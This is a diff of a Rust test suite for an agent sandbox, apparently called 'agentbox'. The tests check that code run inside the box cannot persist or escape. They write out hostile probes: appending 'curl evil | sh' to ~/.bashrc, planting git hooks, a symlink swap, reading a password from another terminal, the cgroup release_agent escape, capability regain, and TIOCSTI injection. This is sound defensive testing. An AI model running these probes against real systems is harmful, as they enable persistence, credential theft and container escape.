@@ -1948,7 +2297,11 @@ fn file_left_in_tmp_invisible() {
             &[(FULL, &["ENOENT"]), (NO_NS, &["EACCES"])],
         );
         let out = sh_box(&f, FULL, "ls -a /tmp \"$TMPDIR\"; echo end");
-        check(!stdout(&out).contains("agentbox-left"), &format!("[{who:?}] ls /tmp"), &out);
+        check(
+            !stdout(&out).contains("agentbox-left"),
+            &format!("[{who:?}] ls /tmp"),
+            &out,
+        );
     }
     let _ = std::fs::remove_file(&p);
 }
@@ -1965,7 +2318,15 @@ fn file_left_in_dev_shm_invisible() {
     let ps = p.to_str().unwrap();
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "/dev/shm left file", READ_PATH, &[ps], "r", &["LEAK"]);
+        expect_host(
+            who,
+            &f.ws,
+            "/dev/shm left file",
+            READ_PATH,
+            &[ps],
+            "r",
+            &["LEAK"],
+        );
         expect_box(
             &f,
             "/dev/shm left file",
@@ -2003,17 +2364,46 @@ for n in A:
                 std::fs::write(f.ws.join(n), format!("KEY=dotenv-secret-value-{n}\n")).unwrap();
                 chown_to(&f.ws.join(n), who);
             }
-            let (hout, hv) = py_host(who, &f.ws, "for n in A:\n    report('read:' + n, lambda n=n: rd(n))", &names);
+            let (hout, hv) = py_host(
+                who,
+                &f.ws,
+                "for n in A:\n    report('read:' + n, lambda n=n: rd(n))",
+                &names,
+            );
             for n in names {
-                want("host control .env", &hout, &hv, &format!("read:{n}"), &["LEAK"]);
+                want(
+                    "host control .env",
+                    &hout,
+                    &hv,
+                    &format!("read:{n}"),
+                    &["LEAK"],
+                );
             }
             let (out, v) = py_box(&f, FULL, body, &names);
             for n in names {
                 let ctx = format!("[{who:?}/{layout}] {n}");
                 want(&ctx, &out, &v, &format!("read:{n}"), &["EACCES", "EMPTY"]);
-                want(&ctx, &out, &v, &format!("write:{n}"), &["EACCES", "EROFS", "EPERM"]);
-                want(&ctx, &out, &v, &format!("rm:{n}"), &["EBUSY", "EACCES", "EPERM"]);
-                want(&ctx, &out, &v, &format!("mv:{n}"), &["EBUSY", "EACCES", "EPERM"]);
+                want(
+                    &ctx,
+                    &out,
+                    &v,
+                    &format!("write:{n}"),
+                    &["EACCES", "EROFS", "EPERM"],
+                );
+                want(
+                    &ctx,
+                    &out,
+                    &v,
+                    &format!("rm:{n}"),
+                    &["EBUSY", "EACCES", "EPERM"],
+                );
+                want(
+                    &ctx,
+                    &out,
+                    &v,
+                    &format!("mv:{n}"),
+                    &["EBUSY", "EACCES", "EPERM"],
+                );
                 assert_eq!(
                     std::fs::read_to_string(f.ws.join(n)).unwrap(),
                     format!("KEY=dotenv-secret-value-{n}\n"),
@@ -2035,9 +2425,19 @@ fn git_hook_cannot_be_planted() {
                 "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; ln -s /bin/true .git/hooks/post-checkout; echo end",
             );
             let ctx = format!("[{who:?}/{layout}] .git/hooks");
-            check(stdout(&out).contains("end") && stderr(&out).contains("Read-only"), &ctx, &out);
-            assert!(!f.ws.join(".git/hooks/pre-commit").exists(), "{ctx}: hook planted");
-            assert!(std::fs::symlink_metadata(f.ws.join(".git/hooks/post-checkout")).is_err(), "{ctx}");
+            check(
+                stdout(&out).contains("end") && stderr(&out).contains("Read-only"),
+                &ctx,
+                &out,
+            );
+            assert!(
+                !f.ws.join(".git/hooks/pre-commit").exists(),
+                "{ctx}: hook planted"
+            );
+            assert!(
+                std::fs::symlink_metadata(f.ws.join(".git/hooks/post-checkout")).is_err(),
+                "{ctx}"
+            );
         }
     }
 }
@@ -2054,8 +2454,16 @@ fn git_config_cannot_be_changed() {
                 "git config user.name evil && echo changed; git config core.hooksPath /tmp && echo changed2; echo '[core]' >> .git/config && echo appended; true",
             );
             let ctx = format!("[{who:?}/{layout}] git config");
-            check(!stdout(&out).contains("changed") && !stdout(&out).contains("appended"), &ctx, &out);
-            assert_eq!(std::fs::read(f.ws.join(".git/config")).unwrap(), before, "{ctx}");
+            check(
+                !stdout(&out).contains("changed") && !stdout(&out).contains("appended"),
+                &ctx,
+                &out,
+            );
+            assert_eq!(
+                std::fs::read(f.ws.join(".git/config")).unwrap(),
+                before,
+                "{ctx}"
+            );
         }
     }
 }
@@ -2090,10 +2498,18 @@ fn git_dir_swap_cannot_plant_hooks() {
 fn bashrc_append_denied() {
     for who in who() {
         for (layout, f) in layouts(who) {
-            let out = sh_box(&f, FULL, "echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo appended; echo end");
+            let out = sh_box(
+                &f,
+                FULL,
+                "echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo appended; echo end",
+            );
             let ctx = format!("[{who:?}/{layout}] ~/.bashrc");
             check(!stdout(&out).contains("appended"), &ctx, &out);
-            assert_eq!(std::fs::read_to_string(f.home.join(".bashrc")).unwrap(), "# rc\n", "{ctx}");
+            assert_eq!(
+                std::fs::read_to_string(f.home.join(".bashrc")).unwrap(),
+                "# rc\n",
+                "{ctx}"
+            );
         }
     }
 }
@@ -2102,7 +2518,14 @@ fn bashrc_append_denied() {
 // .gitmodules) may be created inside, but must be gone from the host after the run.
 #[test]
 fn missing_protected_paths_created_inside_are_removed() {
-    let names = [".husky/pre-commit", ".envrc", ".vscode/settings.json", ".idea/workspace.xml", ".mcp.json", ".gitmodules"];
+    let names = [
+        ".husky/pre-commit",
+        ".envrc",
+        ".vscode/settings.json",
+        ".idea/workspace.xml",
+        ".mcp.json",
+        ".gitmodules",
+    ];
     for who in who() {
         for (layout, f) in layouts(who) {
             let script = names
@@ -2135,13 +2558,21 @@ fn git_add_and_commit_succeed() {
                 "echo boxed > boxed.txt && git add boxed.txt && git -c user.name=Box -c user.email=box@example.invalid commit -q -m 'from the box' && git log --oneline | head -1",
             );
             let ctx = format!("[{who:?}/{layout}] git commit");
-            check(out.status.success() && stdout(&out).contains("from the box"), &ctx, &out);
+            check(
+                out.status.success() && stdout(&out).contains("from the box"),
+                &ctx,
+                &out,
+            );
             let log = Command::new("git")
-                .args(["log", "--format=%an %s", "-1"])
+                .args(["-c", "safe.directory=*", "log", "--format=%an %s", "-1"])
                 .current_dir(&f.ws)
                 .output()
                 .unwrap();
-            assert_eq!(String::from_utf8_lossy(&log.stdout).trim(), "Box from the box", "{ctx}");
+            assert_eq!(
+                String::from_utf8_lossy(&log.stdout).trim(),
+                "Box from the box",
+                "{ctx}"
+            );
         }
     }
 }
@@ -2159,8 +2590,17 @@ fn listing(root: &Path) -> BTreeMap<PathBuf, String> {
         } else if ft.is_dir() {
             format!("dir {:o}", m.permissions().mode())
         } else if ft.is_file() {
-            let data = if m.len() <= 65536 { std::fs::read(p).unwrap_or_default() } else { vec![] };
-            format!("file {:o} {} {:?}", m.permissions().mode(), m.len(), String::from_utf8_lossy(&data))
+            let data = if m.len() <= 65536 {
+                std::fs::read(p).unwrap_or_default()
+            } else {
+                vec![]
+            };
+            format!(
+                "file {:o} {} {:?}",
+                m.permissions().mode(),
+                m.len(),
+                String::from_utf8_lossy(&data)
+            )
         } else {
             format!("other {:o}", m.permissions().mode())
         };
@@ -2181,11 +2621,16 @@ fn listing(root: &Path) -> BTreeMap<PathBuf, String> {
 fn tmp_leftovers(pids: &[u32]) -> Vec<String> {
     let mut left = Vec::new();
     for dir in ["/tmp", "/var/tmp", "/dev/shm", "/run"] {
-        let Ok(rd) = std::fs::read_dir(dir) else { continue };
+        let Ok(rd) = std::fs::read_dir(dir) else {
+            continue;
+        };
         for e in rd.flatten() {
             let n = e.file_name().to_string_lossy().into_owned();
             for pid in pids {
-                if n.starts_with(&format!("agentbox-{pid}-")) || n == format!(".agentbox-tmp-{pid}") || n == format!(".agentbox-{pid}") {
+                if n.starts_with(&format!("agentbox-{pid}-"))
+                    || n == format!(".agentbox-tmp-{pid}")
+                    || n == format!(".agentbox-{pid}")
+                {
                     left.push(format!("{dir}/{n}"));
                 }
             }
@@ -2221,26 +2666,220 @@ fn no_litter_in_workspace_home_or_tmp() {
             let ctx = format!("[{who:?}/{layout}] litter");
             let ws_after = listing(&f.ws);
             let home_after = listing(&f.home);
-            let diff = |a: &BTreeMap<PathBuf, String>, b: &BTreeMap<PathBuf, String>| -> Vec<String> {
-                let mut d = Vec::new();
-                for (k, v) in a {
-                    if b.get(k) != Some(v) {
-                        d.push(format!("- {} {v}", k.display()));
+            let diff =
+                |a: &BTreeMap<PathBuf, String>, b: &BTreeMap<PathBuf, String>| -> Vec<String> {
+                    let mut d = Vec::new();
+                    for (k, v) in a {
+                        if b.get(k) != Some(v) {
+                            d.push(format!("- {} {v}", k.display()));
+                        }
                     }
-                }
-                for (k, v) in b {
-                    if a.get(k) != Some(v) {
-                        d.push(format!("+ {} {v}", k.display()));
+                    for (k, v) in b {
+                        if a.get(k) != Some(v) {
+                            d.push(format!("+ {} {v}", k.display()));
+                        }
                     }
-                }
-                d
-            };
+                    d
+                };
             let dw = diff(&ws_before, &ws_after);
-            assert!(dw.is_empty(), "{ctx}: workspace changed:\n{}", dw.join("\n"));
+            assert!(
+                dw.is_empty(),
+                "{ctx}: workspace changed:\n{}",
+                dw.join("\n")
+            );
             let dh = diff(&home_before, &home_after);
             assert!(dh.is_empty(), "{ctx}: HOME changed:\n{}", dh.join("\n"));
             let left = tmp_leftovers(&pids);
             assert!(left.is_empty(), "{ctx}: temp dirs left behind: {left:?}");
+        }
+    }
+}
+
+// agentbox's post-run guard (which removes protected paths created inside the box) runs
+// outside the box, as the person: it must not follow a symlink the box planted. Here `.git`
+// (whose hooks/ did not exist at launch) is swapped for a symlink to a directory outside the
+// workspace; the guard then sees `.git/hooks` "appear" and deletes the outside directory.
+#[test]
+fn post_run_guard_does_not_follow_planted_symlinks() {
+    for who in who() {
+        let f = Fixture::new(who);
+        std::fs::remove_dir_all(f.ws.join(".git/hooks")).unwrap();
+        let victim = f.dir.path().join("victim");
+        std::fs::create_dir_all(victim.join("hooks")).unwrap();
+        std::fs::write(victim.join("hooks/keep-me"), "precious\n").unwrap();
+        // ws = <dir>/work/repo, so ../../victim from the workspace.
+        let out = sh_box(
+            &f,
+            FULL,
+            "mv .git .git-real && ln -s ../../victim .git && echo swapped; true",
+        );
+        let ctx = format!("[{who:?}] guard follows a planted .git symlink");
+        check(
+            victim.join("hooks/keep-me").exists(),
+            &format!(
+                "{ctx}: agentbox deleted {}/hooks outside the workspace",
+                victim.display()
+            ),
+            &out,
+        );
+    }
+}
+
+// Other terminals of the same person (/dev/pts/N of another tab or an ssh session, owned by the
+// person, mode 620): the box may use the terminal it was given, but opening another one would
+// let it read keystrokes typed there (passwords) and write forged output and escape sequences.
+#[test]
+fn other_terminals_of_the_person_unreachable() {
+    let body = r#"
+def steal():
+    fd = os.open(A[0], os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
+    os.write(fd, b'forged-output ')
+    time.sleep(0.3)
+    try:
+        return 'STOLE-' + os.read(fd, 100).decode(errors='replace').strip()
+    except BlockingIOError:
+        return 'OPENED'
+report('r', steal)
+"#;
+    for who in who() {
+        let f = Fixture::new(who);
+        let (master, slave) = openpty();
+        let name = {
+            let mut buf = [0u8; 128];
+            // SAFETY: ttyname_r into our buffer.
+            let r =
+                unsafe { libc::ttyname_r(slave.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
+            assert_eq!(r, 0);
+            let end = buf.iter().position(|&b| b == 0).unwrap();
+            String::from_utf8_lossy(&buf[..end]).into_owned()
+        };
+        // The terminal belongs to the person running agentbox, as a login terminal would.
+        if who == As::User {
+            if let Some((uid, _)) = test_user() {
+                // SAFETY: fchown/fchmod on our descriptor.
+                unsafe {
+                    libc::fchown(slave.as_raw_fd(), uid, u32::MAX);
+                    libc::fchmod(slave.as_raw_fd(), 0o620);
+                }
+            }
+        }
+        let typer = {
+            let m = master.try_clone().unwrap();
+            std::thread::spawn(move || {
+                // The person types a password in the other terminal while the box runs.
+                for _ in 0..10 {
+                    std::thread::sleep(Duration::from_millis(50));
+                    // SAFETY: writing to our master.
+                    unsafe { libc::write(m.as_raw_fd(), b"hunter2\n".as_ptr().cast(), 8) };
+                }
+            })
+        };
+        let (hout, hv) = py_host(who, &f.ws, body, &[&name]);
+        let (out, v) = py_box(&f, FULL, body, &[&name]);
+        typer.join().unwrap();
+        want(
+            &format!("[{who:?}] host control: other terminal"),
+            &hout,
+            &hv,
+            "r",
+            &["OPENED", "STOLE-hunter2"],
+        );
+        let _ = hv;
+        let got = v.get("r").cloned().unwrap_or_default();
+        check(
+            got == "EACCES" || got == "ENOENT" || got == "EPERM",
+            &format!("[{who:?}] box opened another terminal of the person ({name}): r={got}"),
+            &out,
+        );
+        drop(slave);
+    }
+}
+
+// cgroup v1 release_agent / notify_on_release (the classic container escape: a program run by
+// the kernel as root on the host) and cgroup.procs (moving out of the box's cgroup). Opened for
+// writing only, never written.
+#[test]
+fn cgroup_control_files_unwritable() {
+    let mut files: Vec<String> = Vec::new();
+    if let Ok(rd) = std::fs::read_dir("/sys/fs/cgroup") {
+        for e in rd.flatten() {
+            for n in ["release_agent", "notify_on_release", "cgroup.procs"] {
+                let p = e.path().join(n);
+                if p.exists() {
+                    files.push(p.display().to_string());
+                }
+            }
+        }
+    }
+    if Path::new("/sys/fs/cgroup/cgroup.procs").exists() {
+        files.push("/sys/fs/cgroup/cgroup.procs".into());
+    }
+    if files.is_empty() {
+        return;
+    }
+    let body = r#"
+for p in A:
+    report(p, lambda p=p: os.close(os.open(p, os.O_WRONLY)))
+"#;
+    let args: Vec<&str> = files.iter().map(String::as_str).collect();
+    for who in who() {
+        let f = Fixture::new(who);
+        if who == As::Me && is_root() {
+            expect_host(
+                who,
+                &f.ws,
+                "cgroup control file",
+                body,
+                &args,
+                args[0],
+                &["OK"],
+            );
+        }
+        for extra in [FULL, NO_NS] {
+            let (out, v) = py_box(&f, extra, body, &args);
+            for p in &args {
+                want(
+                    &format!("[{who:?}/{}] open {p}", variant_name(extra)),
+                    &out,
+                    &v,
+                    p,
+                    &["EACCES", "EPERM", "EROFS"],
+                );
+            }
+        }
+    }
+}
+
+// Capabilities cannot be regained: capset to a full set, clearing no-new-privs, setuid(0).
+#[test]
+fn capabilities_cannot_be_regained() {
+    let body = r#"
+hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)   # _LINUX_CAPABILITY_VERSION_3, this process
+data = (ctypes.c_uint32 * 6)(0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff)
+report('capset', lambda: 'OK' if libc.capset(hdr, data) == 0 else en(ctypes.get_errno()))
+report('nnp_off', lambda: 'OK' if libc.prctl(38, 0, 0, 0, 0) == 0 else en(ctypes.get_errno()))
+report('ambient', lambda: 'OK' if libc.prctl(47, 2, 21, 0, 0) == 0 else en(ctypes.get_errno()))  # raise CAP_SYS_ADMIN
+def su():
+    if os.getuid() == 0:
+        return 'ROOT'
+    os.setuid(0)
+report('setuid0', su)
+st = open('/proc/self/status').read()
+print('capeff=' + [l.split()[1] for l in st.splitlines() if l.startswith('CapEff')][0])
+print('nnp=' + [l.split()[1] for l in st.splitlines() if l.startswith('NoNewPrivs')][0])
+"#;
+    for who in who() {
+        let f = Fixture::new(who);
+        for extra in [FULL, NO_NS] {
+            let (out, v) = py_box(&f, extra, body, &[]);
+            let ctx = format!("[{who:?}/{}] regain capabilities", variant_name(extra));
+            want(&ctx, &out, &v, "capset", &["EPERM"]);
+            want(&ctx, &out, &v, "nnp_off", &["EINVAL"]);
+            want(&ctx, &out, &v, "ambient", &["EPERM"]);
+            // EINVAL: uid 0 is not even mapped in the box's user namespace.
+            want(&ctx, &out, &v, "setuid0", &["EPERM", "EINVAL", "ROOT"]);
+            want(&ctx, &out, &v, "capeff", &["0000000000000000"]);
+            want(&ctx, &out, &v, "nnp", &["1"]);
         }
     }
 }
@@ -2277,7 +2916,7 @@ const TTY_WRAPPER: &str = r#"
 import os, subprocess, sys, termios, time, tty
 rc = subprocess.call(sys.argv[1:])
 time.sleep(0.05)
-tty.setraw(0)
+tty.setraw(0, termios.TCSANOW)
 os.set_blocking(0, False)
 try:
     q = os.read(0, 4096)
@@ -2379,7 +3018,10 @@ fn run_on_pty(f: &Fixture, argv: &[String]) -> String {
         if Instant::now() > deadline {
             let _ = child.kill();
             let _ = child.wait();
-            panic!("pty run timed out; output so far:\n{}", String::from_utf8_lossy(&seen));
+            panic!(
+                "pty run timed out; output so far:\n{}",
+                String::from_utf8_lossy(&seen)
+            );
         }
     }
     let _ = child.wait();
@@ -2390,7 +3032,7 @@ fn queue_of(text: &str) -> String {
     let hex = text
         .split("QUEUE=")
         .nth(1)
-        .map(|r| r.split_whitespace().next().unwrap_or(""))
+        .map(|r| r.split(|c: char| c.is_whitespace()).next().unwrap_or(""))
         .unwrap_or("<missing>");
     if hex == "<missing>" {
         return hex.into();
@@ -2403,7 +3045,12 @@ fn queue_of(text: &str) -> String {
 fn term_val(text: &str, key: &str) -> String {
     text.split(&format!("{key}="))
         .nth(1)
-        .map(|r| r.split_whitespace().next().unwrap_or("").to_string())
+        .map(|r| {
+            r.split(|c: char| c.is_whitespace())
+                .next()
+                .unwrap_or("")
+                .to_string()
+        })
         .unwrap_or_else(|| "<missing>".into())
 }
 
@@ -2418,21 +3065,44 @@ fn tiocsti_and_tioclinux_on_the_shared_terminal() {
     for who in who() {
         let f = Fixture::new(who);
         let script = py_script(TIOCSTI_PROBE);
-        let probe: Vec<String> = [python(), "-c", &script, &sti, &linux].iter().map(|s| s.to_string()).collect();
+        let probe: Vec<String> = [python(), "-c", &script, &sti, &linux]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
         // Control: the same probe straight on the terminal injects.
         let text = run_on_pty(&f, &probe);
-        assert_eq!(term_val(&text, "sti"), "OK", "[{who:?}] control: TIOCSTI works on the host\n{text}");
-        assert!(queue_of(&text).contains("echo INJECTED"), "[{who:?}] control: input queued\n{text}");
+        assert_eq!(
+            term_val(&text, "sti"),
+            "OK",
+            "[{who:?}] control: TIOCSTI works on the host\n{text}"
+        );
+        assert!(
+            queue_of(&text).contains("echo INJECTED"),
+            "[{who:?}] control: input queued\n{text}"
+        );
         // In the box.
-        let mut argv: Vec<String> = [bin().to_str().unwrap(), "run", "-q", "--"].iter().map(|s| s.to_string()).collect();
+        let mut argv: Vec<String> = [bin().to_str().unwrap(), "run", "-q", "--"]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
         argv.extend(probe.iter().cloned());
         let text = run_on_pty(&f, &argv);
         let ctx = format!("[{who:?}] TIOCSTI in the box");
-        for k in ["sti", "sti_hi", "sti_devtty", "sti_stderr", "linux", "linux_hi"] {
+        for k in [
+            "sti",
+            "sti_hi",
+            "sti_devtty",
+            "sti_stderr",
+            "linux",
+            "linux_hi",
+        ] {
             assert_eq!(term_val(&text, k), "EPERM", "{ctx}: {k}\n{text}");
         }
         assert_eq!(term_val(&text, "DONE"), "1", "{ctx}\n{text}");
-        assert!(!text.contains("INJECTED"), "{ctx}: injected text echoed\n{text}");
+        assert!(
+            !text.contains("INJECTED"),
+            "{ctx}: injected text echoed\n{text}"
+        );
         assert_eq!(queue_of(&text), "", "{ctx}: injected input queued\n{text}");
         assert_eq!(term_val(&text, "RC"), "0", "{ctx}\n{text}");
     }
